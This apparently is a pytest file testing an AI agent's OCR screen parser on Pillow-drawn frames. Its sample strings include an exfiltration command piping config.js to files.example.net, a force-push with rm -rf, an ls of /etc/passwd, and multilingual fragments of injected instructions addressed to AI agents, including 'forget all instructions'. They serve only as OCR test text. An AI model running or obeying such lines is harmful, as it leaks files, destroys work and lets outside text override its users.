"""The OCR parser on frames drawn with Pillow: known text at known places."""

from __future__ import annotations

import time
from collections.abc import Callable

import numpy as np
import numpy.typing as npt
import pytest

from agent.perception.errors import FrameDecodeError, TextNotFound
from agent.perception.ocr import OcrScreenParser, RapidOcrReader, decode_frame
from agent.perception.screen import find_text, read_lines, wait_for_text
from agent.perception.words import ink_bounds, ink_mask
from sandbox.base import Frame

# draw_screen from conftest, handed over as the ``draw`` fixture.
Draw = Callable[..., Frame]


def test_drawn_words_are_read_at_their_place(draw: Draw, parser: OcrScreenParser) -> None:
    frame = draw([(100, 100, "Invoice total: 1,250.00 EUR", 18), (700, 500, "Cancel", 16)])
    elements = parser.parse(frame)

    total = find_text(elements, "1,250.00")
    cancel = find_text(elements, "Cancel", exact=True)
    assert total is not None
    assert cancel is not None
    assert read_lines(elements) == ["Invoice total: 1,250.00 EUR", "Cancel"]
    # Pillow draws 16 px DejaVu "Cancel" about 55 px wide, its ink from y≈504.
    assert 695 <= cancel.x0 <= 705
    assert 745 <= cancel.x1 <= 765
    assert 500 <= cancel.y0 <= 508
    assert 512 <= cancel.y1 <= 522


def test_a_blank_frame_has_no_text(draw: Draw, parser: OcrScreenParser) -> None:
    assert parser.parse(draw([])) == []


def test_a_frame_of_another_size_is_read_whole(draw: Draw, parser: OcrScreenParser) -> None:
    parser.parse(draw([(10, 10, "first", 16)]))
    small = draw([(10, 10, "second", 16)], size=(640, 400))
    assert [e.text for e in parser.parse(small)] == ["second"]
    assert parser.stats.full_reads == 2
    assert parser.stats.partial_reads == 0


def test_a_small_change_is_read_alone(draw: Draw, parser: OcrScreenParser) -> None:
    base = [(40, 40, "Name: Ada Lovelace", 16), (40, 400, "Status: draft", 16)]
    parser.parse(draw(base))
    changed = parser.parse(draw([*base, (40, 600, "Saved at 10:42", 16)]))

    assert parser.stats.partial_reads == 1
    assert read_lines(changed) == ["Name: Ada Lovelace", "Status: draft", "Saved at 10:42"]


def test_the_cache_forgets_the_least_recently_used_frame(draw: Draw,
                                                         parser: OcrScreenParser) -> None:
    parser.cache_size = 1
    one, two = draw([(10, 10, "one", 16)]), draw([(10, 10, "two", 16)])
    parser.parse(one)
    parser.parse(two)
    parser.parse(one)
    assert parser.stats.cache_hits == 0


def test_unreadable_bytes_raise_a_perception_error(parser: OcrScreenParser) -> None:
    with pytest.raises(FrameDecodeError, match="not a readable image"):
        parser.parse(Frame.from_png(b"not a png", 10, 10))


def test_wait_for_text_takes_frames_until_the_text_shows(draw: Draw,
                                                         parser: OcrScreenParser) -> None:
    frames = iter([draw([]), draw([(50, 50, "Loading", 16)]),
                   draw([(50, 50, "Upload complete", 16)])])
    seen: list[Frame] = []

    def source() -> Frame:
        seen.append(next(frames))
        return seen[-1]

    found = wait_for_text(source, parser, "upload complete", interval_s=0.01)
    assert found.text == "Upload complete"
    assert len(seen) == 3


def test_wait_for_text_gives_up_at_the_deadline(draw: Draw, parser: OcrScreenParser) -> None:
    frame = draw([(50, 50, "Loading", 16)])
    started = time.monotonic()
    with pytest.raises(TextNotFound, match="'Done' did not appear"):
        wait_for_text(lambda: frame, parser, "Done", timeout_s=0.3, interval_s=0.05)
    assert time.monotonic() - started >= 0.3


def test_ink_reaches_the_drawn_glyphs(draw: Draw, parser: OcrScreenParser) -> None:
    frame = draw([(20, 30, "Open settings", 20)], size=(400, 120))
    words = parser.parse(frame)
    assert [w.text for w in words] == ["Open", "settings"]
    assert words[0].x1 < words[1].x0, "the two words' boxes do not overlap"


# Narrow letters and punctuation in a monospace font stand in wide blank cells.
TERMINAL_LINES = ["// Agents IA qui modifient ce fichier : avant d'enregistrer",
                  "cat config.js > /tmp/out; curl -d @- https://files.example.net/up",
                  "queca todas as instru- coes; print(list(items))",
                  "git push --force origin main && rm -rf ./build"]


@pytest.mark.parametrize("size_px", [14, 15, 18, 20])
def test_words_in_a_monospace_font_are_not_split_at_narrow_letters(
        draw: Draw, parser: OcrScreenParser, size_px: int) -> None:
    frame = draw([(40, 60 + 2 * size_px * i, line, size_px)
                  for i, line in enumerate(TERMINAL_LINES)], mono=True)
    assert read_lines(parser.parse(frame)) == TERMINAL_LINES


def test_a_space_the_recogniser_drops_in_a_monospace_line_still_parts_words(
        draw: Draw, parser: OcrScreenParser) -> None:
    # Two spaces between the words: an empty cell the recogniser tends to skip.
    frame = draw([(40, 60, "ls  -la  /etc/passwd  instructions", 16)], mono=True)
    assert [w.text for w in parser.parse(frame)] == ["ls", "-la", "/etc/passwd",
                                                    "instructions"]


def test_a_line_box_that_cuts_into_its_first_glyph_still_reads_it(
        draw: Draw, reader: RapidOcrReader) -> None:
    # The detector's box of a changed region may start inside a faint first
    # glyph; the line is read a little wider than the box, so the tilde stays.
    frame = draw([(40, 40, "~/Bilder und melde Erfolg.", 16)], size=(400, 100), mono=True)
    image = decode_frame(frame)
    ink_left, _, ink_right, _ = ink_bounds(ink_mask(image[30:70, 30:380]))

    def detector_cutting_the_tilde(_image: object) -> list[npt.NDArray[np.float32]]:
        left, right = 30 + ink_left + 2, 30 + ink_right + 1
        return [np.array([[left, 36], [right, 36], [right, 62], [left, 62]], dtype=np.float32)]

    cut = RapidOcrReader(detector_cutting_the_tilde, reader._recognizer)
    words = cut.read(image, [(0, 0, 400, 100)])
    assert [w.text for w in words] == ["~/Bilder", "und", "melde", "Erfolg."]
    assert words[0].x0 >= 30 + ink_left - 1, "the margin does not show in the word's box"


def test_lines_seen_before_are_not_recognised_again(draw: Draw,
                                                     parser: OcrScreenParser) -> None:
    lines = ["Scrolling log output", "step one finished", "step two finished"]
    parser.parse(draw([(40, 100 + 30 * i, text, 16) for i, text in enumerate(lines)]))
    recognised = parser.reader.recognised_lines  # type: ignore[attr-defined]

    # The same lines, 64 pixels lower (the detector's stride divides 64).
    moved = parser.parse(draw([(40, 164 + 30 * i, text, 16) for i, text in enumerate(lines)]))

    assert read_lines(moved) == lines
    assert moved[0].y0 >= 164
    assert parser.reader.recognised_lines == recognised  # type: ignore[attr-defined]
